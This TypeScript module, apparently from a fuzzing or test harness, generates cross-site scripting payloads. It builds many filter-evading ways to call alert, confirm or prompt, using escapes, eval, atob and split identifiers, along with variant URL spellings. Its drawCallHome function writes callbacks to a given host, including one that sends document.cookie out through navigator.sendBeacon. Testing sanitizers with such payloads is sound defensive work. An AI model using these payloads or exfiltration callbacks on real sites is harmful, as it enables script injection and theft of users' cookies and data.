import type { Random } from '../../faults/random.ts';

/**
 * What a payload does once it runs: it says its number, in one of the many ways to call a function.
 * The number always stands in plain digits, so that two payloads that differ in it alone are one.
 */
export type Without = string;

/** An expression, free of the characters in `without`. */
export function drawCall(random: Random, id: number, without: Without = ''): string {
  return drawFrom(random, () => expressions(random, id), without);
}

/** As above, or a statement: for where code stands by itself. */
export function drawCode(random: Random, id: number, without: Without = ''): string {
  return drawFrom(random, () => [...expressions(random, id), ...statements(random, id)], without);
}

/** Code that asks `home` for something: what a payload would do with what it found. */
export function drawCallHome(random: Random, id: number, home: string, without: Without = ''): string {
  const there = drawAddress(random, id, home);
  const quoted = random.pick([`'${there}'`, `'${there}'`, `"${there}"`, `\`${there}\``]);
  return drawFrom(random, () => [
    `fetch(${quoted})`, `fetch(${quoted},{mode:'no-cors'})`, `self.fetch(${quoted})`, `new Image().src=${quoted}`, `new Image(9).srcset=${quoted}`, `navigator.sendBeacon(${quoted})`,
    `navigator.sendBeacon(${quoted},document.cookie)`, `document.createElement('img').src=${quoted}`, `new Audio(${quoted}).load()`,
    `new EventSource(${quoted})`, `import(${quoted})`, `location=${quoted}`, `location.href=${quoted}`, `location.assign(${quoted})`, `location.replace(${quoted})`, `self.location=${quoted}`,
    `new WebSocket('ws://${home}/${id}')`, `with(new XMLHttpRequest)open('GET',${quoted}),send()`, `document.write('<img src=${there}>')`,
    `document.body.append(Object.assign(new Image,{src:${quoted}}))`, `document.body.insertAdjacentHTML('beforeend','<img src=${there}>')`,
    `document.head.append(Object.assign(document.createElement('link'),{rel:'stylesheet',href:${quoted}}))`,
    `setTimeout(fetch,0,${quoted})`, `Reflect.apply(fetch,self,[${quoted}])`, `[${quoted}].map(u=>fetch(u))`, `fetch.call(self,${quoted})`,
  ], without);
}

/** The same place in another spelling: browsers read all of them alike. */
export function drawAddress(random: Random, id: number, home: string): string {
  return random.pick([`//${home}/${id}`, `http://${home}/${id}`, `HTTP://${home}/${id}`, `//${home}/x/../${id}`, `//${home}/./${id}?x`, `http:////${home}/${id}`, `///${home}/${id}#x`]);
}

/** Forms are drawn themselves: where none of them fits, other ones may. */
function drawFrom(random: Random, draw: () => readonly string[], without: Without): string {
  for (;;) {
    const fit = draw().filter((form) => ![...without].some((sign) => form.includes(sign)));
    if (fit.length > 0) return random.pick(fit);
  }
}

const speakers = ['alert', 'confirm', 'prompt'] as const;

function expressions(random: Random, id: number): string[] {
  const name = random.pick(speakers);
  const veiled = veil(random, name);
  const [head, tail] = [name.slice(0, 2), name.slice(2)];
  const plain = [veiled, `window.${veiled}`, `self.${veiled}`, `globalThis.${veiled}`, `frames.${veiled}`, `window.self.${veiled}`, `document.defaultView.${veiled}`];
  const called = random.pick(plain);
  return [
    `${called}(${id})`, `(${called})(${id})`, `${called}?.(${id})`, `[${id}].map(${called})`, `[${id}].find(${called})`, `[${id}].some(${called})`, `[${id}].every(${called})`, `[${id}].filter(${called})`, `[${id}].flatMap(${called})`,
    `Array.of(${id}).forEach(${called})`, `Array.from([${id}],${called})`, `${called}.call(null,${id})`, `${called}.apply(null,[${id}])`, `${called}.bind(null,${id})()`, `${called}.bind()(${id})`, `Reflect.apply(${called},null,[${id}])`,
    `setTimeout(${called},0,${id})`, `Promise.resolve(${id}).then(${called})`, `Promise.reject(${id}).catch(${called})`, `void(${called}(${id}))`, `(0,${called})(${id})`, `(function(){${called}(${id})})()`, `(()=>${called}(${id}))()`,
    `${called}\`${id}\``, `window['${name}'](${id})`, `self["${name}"](${id})`, `self['${head}'+'${tail}'](${id})`, `window["${head}".concat("${tail}")](${id})`, `self[\`${name}\`](${id})`, `window[/${name}/.source](${id})`,
    `eval('${veiled}(${id})')`, `eval("${called}(${id})")`, `eval(\`${called}(${id})\`)`, `Function('${called}(${id})')()`, `new Function("${called}(${id})")()`, `setTimeout('${called}(${id})')`, `eval(atob('${btoa(`${name}(`)}')+'${id})')`,
    `eval('${escapeLetters(random, name)}(${id})')`, `Reflect.get(self,'${name}')(${id})`, `self[['${head}','${tail}'].join('')](${id})`, `self['${[...name].reverse().join('')}'.split('').reverse().join('')](${id})`,
  ];
}

function statements(random: Random, id: number): string[] {
  const name = veil(random, random.pick(speakers));
  return [
    `if(self)${name}(${id})`, `{${name}(${id})}`, `;${name}(${id});`, `var x=${id};${name}(x)`, `let{length}=[];${name}(${id})`, `for(const x of[${id}])${name}(x)`, `do{${name}(${id})}while(!self)`,
    `try{x.y}catch{${name}(${id})}`, `throw window.onerror=${name},${id}`, `switch(self){default:${name}(${id})}`, `x:{${name}(${id});break x}`, `function x(){${name}(${id})}x()`, `new class{constructor(){${name}(${id})}}`,
    `/*x*/${name}(${id})/*y*/`, `${name}(${id})//x`, `with({x:${id}})${name}(x)`, `window.x=${name};x(${id})`,
  ];
}

/** An identifier may be written with escapes of its letters. */
function veil(random: Random, name: string): string {
  if (!random.chance(0.3)) return name;
  return [...name].map((letter) => (random.chance(0.3) ? `\\u${hex(letter, 4)}` : letter)).join('');
}

function escapeLetters(random: Random, name: string): string {
  return [...name].map((letter) => (random.chance(0.5) ? `\\x${hex(letter, 2)}` : letter)).join('');
}

export function hex(letter: string, length: number): string {
  return (letter.codePointAt(0) ?? 0).toString(16).padStart(length, '0');
}
